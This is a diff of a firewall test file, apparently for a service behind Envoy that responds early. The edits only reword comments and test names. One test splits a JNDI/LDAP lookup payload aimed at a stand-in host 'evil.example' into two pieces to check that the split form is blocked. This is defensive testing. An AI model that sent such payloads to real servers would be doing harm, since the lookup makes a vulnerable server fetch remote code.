@@ -1,5 +1,5 @@
-// Through the real Envoy: a service that answers before the request's end. What comes of the request afterwards is inspected as
-// if nothing had been answered, and the answer as if the request had ended.
+// Through the real Envoy: a service that responds before the request's end. The rest of the request is inspected as
+// if there were no response yet, and the response as if the request had ended.
 
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Answer } from '../../demo/stack/answer.ts';
@@ -13,12 +13,12 @@ const leak = 'You have an error in your SQL syntax; check the manual that corres
 const types = ['text/plain', 'application/x-www-form-urlencoded', 'x/odd'];
 
 interface Plan {
-  /** What the service says as soon as it has the head. */
+  /** The service's response as soon as it has the head. */
   readonly answer: string;
   readonly type?: string;
-  /** The pieces of the body; each is sent when the service has answered and has what went before. */
+  /** The pieces of the body; each is sent when the service has responded and has received the previous one. */
   readonly pieces: readonly string[];
-  /** The body goes on for ever. */
+  /** The body never ends. */
   readonly isOpen?: boolean;
   readonly more?: HeaderPairs;
 }
@@ -46,11 +46,11 @@ function exchange(front: Front, plan: Plan, protocol: 'http1' | 'http2') {
   return front.exchange(request, { protocol });
 }
 
-/** The exchange was stopped: an answer of ours, or no end of the service's. */
+/** The exchange was stopped: Weir's response, or the service's without its end. */
 const isStopped = ({ status, end }: Answer): boolean => status === 403 || end === 'cut';
 
 for (const mode of ['streamed', 'streamed-wait', 'full-duplex'] as const) {
-  describe(`a service that answers early, ${mode}`, () => {
+  describe(`a service that responds early, ${mode}`, () => {
     let front: Front;
     beforeAll(async () => {
       front = await Front.start({ mode });
@@ -58,7 +58,7 @@ for (const mode of ['streamed', 'streamed-wait', 'full-duplex'] as const) {
     afterAll(() => front.stop());
 
     for (const protocol of protocols) {
-      it(`does not get an attack that comes after its answer (${protocol})`, async () => {
+      it(`does not get an attack that comes after its response (${protocol})`, async () => {
         for (const type of types) {
           const text = type.endsWith('urlencoded') ? `q=${encodeURIComponent(attack)}` : attack;
           for (const isOpen of [true, false]) {
@@ -70,7 +70,7 @@ for (const mode of ['streamed', 'streamed-wait', 'full-duplex'] as const) {
         }
       });
 
-      it(`does not get an attack in two halves, one before and one after more of the answer (${protocol})`, async () => {
+      it(`does not get an attack in two halves, with part of the response in between (${protocol})`, async () => {
         const plan = { answer: 'j', pieces: ['\x24{jn', 'di:ldap://evil.example/a}'], isOpen: true };
         const { answer, arrival } = await exchange(front, plan, protocol);
         expect(isStopped(answer)).toBeTruthy();
